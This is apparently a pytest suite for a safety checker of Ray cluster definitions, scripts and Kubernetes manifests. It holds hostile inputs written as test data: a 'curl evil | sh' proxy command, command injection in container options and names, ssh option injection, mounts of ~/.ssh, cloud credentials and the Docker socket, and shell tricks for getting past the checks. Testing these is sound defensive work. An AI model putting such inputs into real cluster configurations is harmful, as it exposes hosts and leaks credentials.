"""No file of clusters/ opens a port, runs without a token or carries a secret; bad ones are seen."""

import copy
import re

import pytest
import yaml
from edited import CLUSTERS, MANIFESTS, RAY_UP, SCRIPTS, edit

from rsray.cluster.definition import read_cluster_file
from rsray.cluster.safety import find_problems, find_secrets
from rsray.cluster.safety.ray_commands import find_start_problems
from rsray.errors import UserError

NAMES = {file.name: file for file in (*RAY_UP, *MANIFESTS)}


def documents(name, tmp_path):
    file = NAMES[name]
    text = (edit(file, tmp_path) if file in RAY_UP else file).read_text()
    return [
        found for found in yaml.safe_load_all(text) if found.get("kind") != "PersistentVolumeClaim"
    ]


@pytest.mark.parametrize("name", NAMES)
def test_every_yaml_is_safe(name, tmp_path):
    for definition in documents(name, tmp_path):
        assert find_problems(definition) == []


@pytest.mark.parametrize("file", SCRIPTS, ids=lambda file: file.name)
def test_every_script_is_safe(file):
    text = re.sub(r"\\\n\s*", " ", file.read_text())  # a command on one line
    assert find_secrets(text) == []
    bare = "\n".join(line for line in text.splitlines() if not line.lstrip().startswith("#"))
    assert not re.search(r"\bray stop\b|0\.0\.0\.0", bare)
    for line in bare.splitlines():
        if "ray start" in line and "--head" not in line:
            assert find_start_problems(line.rstrip(" &")) == []
    if "ray start --head" in bare:
        whole = bare[bare.index("srun --nodes=1 --ntasks=1 --overlap") : bare.index('wait \\$ray"')]
        assert "RAY_AUTH_MODE=token" in whole and "RAY_AUTH_TOKEN_PATH=" in whole
        assert "--dashboard-host=127.0.0.1" in whole and "pkill -f 'ray[.]util" in whole


LOCAL = {
    "no token": (r"RAY_AUTH_MODE=token ", "", "without RAY_AUTH_MODE=token"),
    "token off": (r"RAY_AUTH_MODE=token ", "RAY_AUTH_MODE=disabled ", "without RAY_AUTH_MODE=token"),
    "no token file": (r"RAY_AUTH_TOKEN_PATH=", "X=", "without RAY_AUTH_TOKEN_PATH"),
    "open dashboard": (r"--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0", "dashboard-host is 0.0.0.0"),
    "named dashboard": (r"--dashboard-host=127.0.0.1", "--dashboard-host 10.0.0.1", "dashboard-host is 10.0.0.1"),
    "default dashboard": (r"--dashboard-host=127.0.0.1 ", "", "dashboard-host is not given"),
    "client server": (r"pkill -f", "echo", "client server stays open"),
    "another client port": (r"client-server-port=10001", "client-server-port=10002", "port 10002"),
    "ray stop": (r"ray start --head", "ray stop; ray start --head", "kills every Ray"),
    "ray's own commands": (r"worker_start_ray_commands:", "head_setup_commands:", "worker_start_ray_commands"),
    "a token in it": (r"upscaling_speed: 1.0", "x: RAY_AUTH_TOKEN=0123456789abcdef", "a secret"),
}  # fmt: skip


@pytest.mark.parametrize("case", LOCAL)
def test_an_unsafe_definition_is_seen(case, tmp_path):
    old, new, said = LOCAL[case]
    text = edit(CLUSTERS / "local.yaml", tmp_path).read_text()
    assert old in text
    found = find_problems(yaml.safe_load(text.replace(old, new)))
    assert any(said in problem for problem in found), found


def test_an_unsafe_definition_is_refused(tmp_path):
    file = edit(CLUSTERS / "local.yaml", tmp_path)
    file.write_text(
        file.read_text().replace("--dashboard-host=127.0.0.1", "--dashboard-host=0.0.0.0")
    )
    with pytest.raises(UserError, match=r"is not safe: .*dashboard-host is 0\.0\.0\.0"):
        read_cluster_file(file)


START = "ray start --head --port=6379"
PKILL = "pkill -f 'ray[.]util"
WHAT_A_SHELL_WOULD_DO = {
    "the last option wins": ("--dashboard-host=127.0.0.1", "--dashboard-host=127.0.0.1 --dashboard-host=0.0.0.0", "dashboard-host is 0.0.0.0"),
    "after a redirection": ("--disable-usage-stats;", "--disable-usage-stats > log --dashboard-host 0.0.0.0;", "dashboard-host is 0.0.0.0"),
    "after another redirection": ("--disable-usage-stats;", "--disable-usage-stats >| log --dashboard-host 0.0.0.0;", "dashboard-host is 0.0.0.0"),
    "by a variable": (START, f"r=ray; $r start --head; {START}", "makes up"),
    "by a later variable": (START, f"r=ray; nohup $r start --head; {START}", "makes up"),
    "by braces": (START, f"{{ray,start,--head}}; {START}", "makes up"),
    "in broken quotes": (START, f"eval 'r''ay start --head'; {START}", "inside another command"),
    "in a comment": ("--dashboard-host=127.0.0.1 --dashboard-port=8265", "# --dashboard-host=127.0.0.1 --dashboard-port=8265", "dashboard-host is not given"),
    "of another command": ("--dashboard-host=127.0.0.1", "; echo --dashboard-host=127.0.0.1", "dashboard-host is not given"),
    "the last client port wins": ("--ray-client-server-port=10001", "--ray-client-server-port=10001 --ray-client-server-port 10005", "stays open on port 10005"),
    "the last mode wins": ("RAY_AUTH_MODE=token ", "RAY_AUTH_MODE=token RAY_AUTH_MODE=disabled ", "RAY_AUTH_MODE"),
    "the mode taken back": ("ulimit -c 0;", "unset RAY_AUTH_MODE;", "RAY_AUTH_MODE"),
    "the mode changed for one command": (START, f"RAY_AUTH_MODE=x {START}", "RAY_AUTH_MODE"),
    "the mode spelled oddly": (START, f'export RAY_AUTH""_MODE=x; {START}', "RAY_AUTH_MODE"),
    "the file taken back": ("ulimit -c 0;", "unset RAY_AUTH_TOKEN_PATH;", "without RAY_AUTH_TOKEN_PATH"),
    "not exported": ("export RAY_AUTH_MODE=token", "RAY_AUTH_MODE=token; export", "without RAY_AUTH_MODE=token"),
    "exported elsewhere": ("export RAY_AUTH_MODE=token", "(export RAY_AUTH_MODE=token); export", "without RAY_AUTH_MODE=token"),
    "exported perhaps": ("export RAY_AUTH_MODE=token", "false && export RAY_AUTH_MODE=token; export", "without RAY_AUTH_MODE=token"),
    "exported in a pipe": ("export RAY_AUTH_MODE=token", "export RAY_AUTH_MODE=token | cat; export", "without RAY_AUTH_MODE=token"),
    "said only": ("export RAY_AUTH_MODE=token", "echo RAY_AUTH_MODE=token; export", "without RAY_AUTH_MODE=token"),
    "env -i": (START, f"env -i PATH=$PATH {START}", "`env` with options"),
    "sudo": (START, f"sudo {START}", "`sudo` in front"),
    "in quotes": (START, f"bash -c 'ray start --head'; {START}", "inside another command"),
    "backticks": (START, f"`ray start --head`; {START}", "inside another command"),
    "two of them": (START, f"ray start --head --port=1; {START}", "dashboard-host is not given"),
    "a pattern for another": (f"{PKILL}", "pkill -f 'xray[.]util", "client server stays open"),
    "a kill that may not be": (f"{PKILL}", f"false || {PKILL}", "client server stays open"),
    "a kill that is none": ("pkill -f", "pkill -0 -f", "client server stays open"),
    "a kill that is said": ("pkill -f", "echo pkill -f", "client server stays open"),
    "blocking": (START, f"{START} --block", "no --block"),
    "ray stop in quotes": (START, f"'ray' stop; {START}", "kills every Ray"),
    "a token that is known": (START, f"RAY_AUTH_TOKEN=$USER {START}", "takes the place of"),
    "a token file that is known": ("RAY_AUTH_TOKEN_PATH=~/rsray/auth_token", "RAY_AUTH_TOKEN_PATH=/etc/hostname", "RAY_AUTH_TOKEN_PATH is /etc/hostname"),
    "the token file read": (START, f"read RAY_AUTH_TOKEN_PATH < /etc/hostname; {START}", "may only be assigned"),
    "the token file declared": (START, f"declare -x RAY_AUTH_TOKEN_PATH=/etc/hostname; {START}", "`declare` in front"),
    "unset by a pattern": (START, f"unset ${{!RAY_AUTH*}}; {START}", "whose name the shell makes up"),
    "unset by braces": (START, f"unset RAY_AUTH_{{TOKEN_PATH,X}}; {START}", "whose name the shell makes up"),
    "options by a variable": ("--dashboard-host=127.0.0.1", "--dashboard-host=127.0.0.1 $more", "made up by the shell"),
    "options in a value": ("--dashboard-host=127.0.0.1", "--dashboard-host=127.0.0.1 --num-cpus=$more", "made up by the shell"),
    "options by braces": ("--dashboard-host=127.0.0.1", "--dashboard-host=127.0.0.1 --{dashboard-host=0.0.0.0,num-cpus=1}", "made up by the shell"),
    "a variable of Ray's": (START, f"RAY_HEAD_IP='1 --dashboard-host=0.0.0.0'; {START} --x $RAY_HEAD_IP", "only read"),
    "a function": (START, f'ray() {{ command ray "$@" --dashboard-host=0.0.0.0; }}; {START}', "a function of the shell"),
    "an alias": (START, f"alias ray=other; {START}", "`alias` in front"),
    "a trap": (START, f"trap 'export PATH=/x' DEBUG; {START}", "`trap` in front"),
    "another file's commands": (START, f". /tmp/x; {START}", "`.` in front"),
    "a kill after a failure": (PKILL, f"false && {PKILL}", "client server stays open"),
    "a kill after the end": (PKILL, f"exit; {PKILL}", "client server stays open"),
    "an open debugger": (START, f"{START} --ray-debugger-external", "may open Ray"),
    "the mode in a setting": (START, f"{START} --system-config=x", "may open Ray"),
    "open quotes": (START, f"echo \" {START}", "cannot be read"),
}  # fmt: skip


@pytest.mark.parametrize("case", WHAT_A_SHELL_WOULD_DO)
def test_the_start_command_is_read_as_a_shell_reads_it(case, tmp_path):
    old, new, said = WHAT_A_SHELL_WOULD_DO[case]
    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
    (line,) = definition["head_start_ray_commands"]
    assert old in line
    definition["head_start_ray_commands"] = [line.replace(old, new)]
    found = find_problems(definition)
    assert any(said in problem for problem in found), found


@pytest.mark.parametrize(
    "key", ["initialization_commands", "setup_commands", "head_setup_commands", "worker_setup_commands"]
)  # fmt: skip
@pytest.mark.parametrize(
    "line, said",
    [
        ("ray start --head --dashboard-host=0.0.0.0", "`ray start` belongs"),
        ("nohup ray start --head &", "`ray start` belongs"),
        ("bash -c 'ray stop'", "kills every Ray"),
        ("echo export RAY_AUTH_MODE=disabled >> ~/.bashrc", "RAY_AUTH_MODE"),
    ],
)
def test_the_other_commands_leave_ray_alone(key, line, said, tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
    definition[key] = [*definition.get(key, []), line]
    (found,) = find_problems(definition)
    assert found.startswith(key) and said in found


def test_the_commands_of_a_node_type_are_looked_at(tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "aws-gpu.yaml", tmp_path).read_text())
    definition["available_node_types"]["gpu"]["worker_setup_commands"] = ["ray stop"]
    (found,) = find_problems(definition)
    assert found.startswith("available_node_types.gpu.worker_setup_commands")


@pytest.mark.parametrize(
    "option, said",
    [
        ("-p 8265:8265", "-p is none of"),
        ("--publish=0.0.0.0:8265:8265", "--publish is none of"),
        ("--privileged", "--privileged is none of"),
        ("--gpus all --privileged", "--privileged is none of"),
        ("-v /:/host", "the host's files"),
        ("--volume=/var/run/docker.sock:/var/run/docker.sock", "the host's files"),
        ("-e RAY_AUTH_MODE=disabled", "changes the token"),
        ("--env-file x", "--env-file is none of"),
        ("--name x; curl evil", "a shell command"),
        ("-v //:/host", "the host's files"),
        ("-v /./:/host", "the host's files"),
        ('-v "/":/host', "the host's files"),
        ("-v /etc/:/x", "the host's files"),
        ("-v /srv/../etc:/x", "the host's files"),
        ("-v ~/.ssh:/x", "the host's files"),
        ("--volume=/run/docker.sock:/x", "the host's files"),
        ('-e "RAY_AUTH_MODE=disabled"', "changes the token"),
        ("-e RAY_AUTH\\_MODE=disabled", "changes the token"),
        ("-v $X:/host", "a shell command"),
        ("-v {/,/x}:/host", "a shell command"),
    ],
)
@pytest.mark.parametrize("key", ["run_options", "head_run_options", "worker_run_options"])
def test_what_a_container_may_not_have(option, said, key, tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
    definition["docker"] = {"image": "x", "container_name": "c", key: ["--shm-size=8g", option]}
    found = find_problems(definition)
    assert found and all(problem.startswith(f"docker.{key}: ") for problem in found)
    assert any(said in problem for problem in found), found
    definition["docker"][key] = ["--gpus all", "--ipc=host", "-v /data:/data"]
    assert find_problems(definition) == []


REACH = {
    "a head that is an option": ("head_ip: 10.0.0.1", "head_ip: -oProxyCommand=x", "no host name"),
    "a worker that is an option": ("[10.0.0.2, 10.0.0.3]", "['-oProxyCommand=x']", "no host name"),
    "an outer address": ("head_ip:", "external_head_ip: '-F/tmp/x'\n  head_ip:", "no host name"),
    "a user that is an option": ("ssh_user: ray", "ssh_user: -oProxyCommand=x", "no account"),
    "a proxy command": ("ssh_user: ray", "ssh_user: ray\n  ssh_proxy_command: curl evil | sh", "would run on this machine"),
    "a proxy's proxy": ("ssh_user: ray", "ssh_user: ray\n  ssh_proxy_command: ssh -o ProxyCommand=x -W %h:%p b", "would run on this machine"),
    "a coordinator": ("head_ip:", "coordinator_address: 1.2.3.4:5\n  head_ip:", "coordinator"),
    "the ssh folder": ("file_mounts:", "file_mounts:\n  ~/x: ~/.ssh", "~/.ssh is sent"),
    "credentials": ("file_mounts:", "file_mounts:\n  ~/x: ~/.aws/credentials", "credentials is sent"),
    "the whole home": ("file_mounts:", "file_mounts:\n  ~/x: $HOME", "is sent"),
    "an environment": ("file_mounts:", "file_mounts:\n  ~/x: /srv/app/.env", ".env is sent"),
    "a synced key": ("upscaling_speed:", "cluster_synced_files: [/srv/id_rsa]\nupscaling_speed:", "id_rsa is sent"),
    "a key beside the definition's folder": ("file_mounts:", "file_mounts:\n  ~/x: ../.ssh", "../.ssh is sent"),
    "another's keys": ("file_mounts:", "file_mounts:\n  ~/x: /home/other/.ssh/config", "config is sent"),
    "a user's script at boot": ("upscaling_speed:", "x: {UserData: ray start}\nupscaling_speed:", "UserData runs commands"),
    "a startup script": ("upscaling_speed:", "x: [{key: startup-script, value: x}]\nupscaling_speed:", "startup-script runs commands"),
    "a container that is a command": ("upscaling_speed:", "docker: {image: x, container_name: x; evil}\nupscaling_speed:", "docker.container_name: 'x; evil' is no name"),
}  # fmt: skip


@pytest.mark.parametrize("case", REACH)
def test_what_a_definition_may_not_reach(case, tmp_path):
    old, new, said = REACH[case]
    text = edit(CLUSTERS / "local.yaml", tmp_path).read_text()
    assert old in text
    found = find_problems(yaml.safe_load(text.replace(old, new)))
    assert any(said in problem for problem in found), found


def test_a_hop_through_another_host_is_allowed(tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "local.yaml", tmp_path).read_text())
    definition["auth"]["ssh_proxy_command"] = "ssh -q -i ~/key -W %h:%p me@gate.example.org"
    definition["provider"]["worker_ips"] = ["node-2.local", "fe80::1"]
    assert find_problems(definition) == []


def test_a_provider_without_a_check_is_refused_unless_the_user_answers_for_it(tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "gcp-gpu.yaml", tmp_path).read_text())
    definition["provider"] = {"type": "azure", "location": "westeurope", "resource_group": "x"}
    (found,) = find_problems(definition)
    assert "cannot check the firewall of azure" in found and "own_firewall: true" in found
    definition["metadata"]["rsray"]["own_firewall"] = True
    assert find_problems(definition) == []


def test_a_form_that_cannot_be_checked_is_one_line(tmp_path):
    file = edit(CLUSTERS / "aws-gpu.yaml", tmp_path)
    file.write_text(file.read_text().replace("- CidrIp: 203.0.113.7/32", "- 5 # "))
    with pytest.raises(UserError, match="has a form that rsray cannot check") as problem:
        read_cluster_file(file)
    assert "\n" not in str(problem.value)


AWS = {
    "a prefix list": ("FromPort: 22", "PrefixListIds: [{PrefixListId: pl-1}]\n        FromPort: 22", "PrefixListIds"),
    "the world": ("203.0.113.7/32", "0.0.0.0/0", "open to 0.0.0.0/0"),
    "half the world": ("203.0.113.7/32", "128.0.0.0/1", "open to 128.0.0.0/1"),
    "no range": ("203.0.113.7/32", "home", "'home' is no address range"),
    "the dashboard": ("FromPort: 22", "FromPort: 8265", "only tcp 22"),
    "every port": ("IpProtocol: tcp", "IpProtocol: '-1'", "only tcp 22"),
    "ray's group": ("security_group:", "other_group:", "IpPermissions is missing"),
    "a key": ("rsray/rsray", "AKIAABCDEFGHIJKLMNOP", "an AWS key"),
}  # fmt: skip


@pytest.mark.parametrize("case", AWS)
def test_an_open_security_group_is_seen(case, tmp_path):
    old, new, said = AWS[case]
    text = edit(CLUSTERS / "aws-gpu.yaml", tmp_path).read_text().replace("my-bucket", "rsray")
    assert old in text
    found = find_problems(yaml.safe_load(text.replace(old, new)))
    assert any(said in problem for problem in found), found


def test_many_small_ranges_are_one_large_one(tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "aws-gpu.yaml", tmp_path).read_text())
    rule = definition["provider"]["security_group"]["IpPermissions"][0]
    rule["IpRanges"] = [{"CidrIp": f"{first}.0.0.0/16"} for first in range(20, 60)]
    (found,) = find_problems(definition)
    assert "many ranges" in found


def test_gcps_default_network_by_name_is_seen(tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "gcp-gpu.yaml", tmp_path).read_text())
    kind = definition["available_node_types"]["gpu"]["node_config"]
    kind["networkInterfaces"] = [{"network": "projects/p/global/networks/default"}]
    (found,) = find_problems(definition)
    assert "gpu is in GCP's default network" in found


def test_gcps_default_network_is_seen(tmp_path):
    definition = yaml.safe_load(edit(CLUSTERS / "gcp-gpu.yaml", tmp_path).read_text())
    del definition["available_node_types"]["gpu"]["node_config"]["networkInterfaces"]
    assert find_problems(definition) == [
        "gpu has no networkInterfaces: GCP's default network opens ssh to the world"
    ]


def _without_token(spec):
    del spec["authOptions"]


def _token_written(spec):
    pod = spec["workerGroupSpecs"][0]["template"]["spec"]
    pod["containers"][0]["env"] = [{"name": "RAY_AUTH_TOKEN", "value": "abc"}]


MANIFEST = {
    "no token": (_without_token, "authOptions.mode is not token"),
    "token off": (lambda spec: spec["authOptions"].update(mode="disabled"), "authOptions.mode"),
    "load balancer": (lambda spec: spec["headGroupSpec"].update(serviceType="LoadBalancer"), "ClusterIP"),
    "ingress": (lambda spec: spec["headGroupSpec"].update(enableIngress=True), "enableIngress"),
    "host network": (lambda spec: spec["headGroupSpec"]["template"]["spec"].update(hostNetwork=True), "hostNetwork"),
    "host port": (
        lambda spec: spec["headGroupSpec"]["template"]["spec"]["containers"][0].update(ports=[{"containerPort": 8265, "hostPort": 8265}]),
        "hostPort 8265",
    ),
    "token written": (_token_written, "RAY_AUTH_TOKEN is written"),
}  # fmt: skip


@pytest.mark.parametrize("case", MANIFEST)
@pytest.mark.parametrize("name", ["raycluster.yaml", "rayjob.yaml"])
def test_an_unsafe_manifest_is_seen(name, case, tmp_path):
    change, said = MANIFEST[case]
    manifest = copy.deepcopy(documents(name, tmp_path)[0])
    change(manifest["spec"].get("rayClusterSpec", manifest["spec"]))
    found = find_problems(manifest)
    assert any(said in problem for problem in found), found


def test_a_mount_is_what_its_link_leads_to(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    (tmp_path / "home" / ".aws").mkdir(parents=True)
    file = edit(CLUSTERS / "local.yaml", tmp_path)
    (file.parent / "data").symlink_to(tmp_path / "home" / ".aws")
    text = file.read_text().replace("file_mounts:", "file_mounts:\n  ~/data: data")
    file.write_text(text)
    with pytest.raises(UserError, match="data is sent, which is this machine's secret"):
        read_cluster_file(file)
    (file.parent / "data").unlink()
    (file.parent / "data").mkdir()
    assert read_cluster_file(file).resolved()["file_mounts"]["~/data"] == str(file.parent / "data")


@pytest.mark.parametrize("path", ["$HOME/rsray/auth_token", "${HOME}/rsray/auth_token"])
def test_the_token_file_may_be_named_by_the_home_folder(path, tmp_path):
    text = edit(CLUSTERS / "local.yaml", tmp_path).read_text()
    named = text.replace("RAY_AUTH_TOKEN_PATH=~/rsray/auth_token", f"RAY_AUTH_TOKEN_PATH={path}")
    assert find_problems(yaml.safe_load(named)) == []
